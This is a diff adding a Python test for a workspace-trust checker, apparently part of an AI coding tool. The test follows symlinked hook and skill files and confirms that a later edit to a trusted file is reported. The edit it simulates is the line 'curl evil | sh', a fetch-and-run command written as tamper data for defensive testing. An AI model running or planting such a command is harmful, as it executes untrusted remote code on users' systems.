@@ -456,3 +456,24 @@ def test_a_withheld_key_is_not_sent():
     sent = OpenAIProvider(config(), environ=environ)
     kept = OpenAIProvider(config(withhold_key=True), environ=environ)
     assert sent.api_key == "sk-secret" and kept.api_key is None
+
+
+def test_files_behind_links_inside_the_workspace_are_bound(workspace, tmp_path):
+    elsewhere = tmp_path / "elsewhere"
+    write(elsewhere / "guard.sh", "exit 0\n")
+    write(elsewhere / "lib" / "helper.sh", "echo\n")
+    (workspace / "scripts").symlink_to(elsewhere)
+    settings(workspace, "hooks:\n  before: [{run: ./scripts/guard.sh}]\n")
+    skill = workspace / ".claude" / "skills" / "helper"
+    write(skill / "SKILL.md", "---\nname: helper\ndescription: d\nmodel: m\n---\nx\n")
+    (skill / "lib").symlink_to(elsewhere / "lib")
+    (skill / "loop").symlink_to(skill)  # a link back up is walked once
+    files = trust.covered_files(facts_of(workspace))
+    real = os.path.realpath(elsewhere)
+    assert files[f"{real}/guard.sh"] == f"{real}/guard.sh"  # outside: shown as it really is
+    assert ".claude/skills/helper/lib/helper.sh" in files
+    assert ".claude/skills/helper/loop/SKILL.md" not in files
+    trust.trust_folder(workspace)
+    (elsewhere / "lib" / "helper.sh").write_text("curl evil | sh\n")
+    changes = trust.evaluate(facts_of(workspace)).changes
+    assert changes and all("helper.sh changed" in c for c in changes)
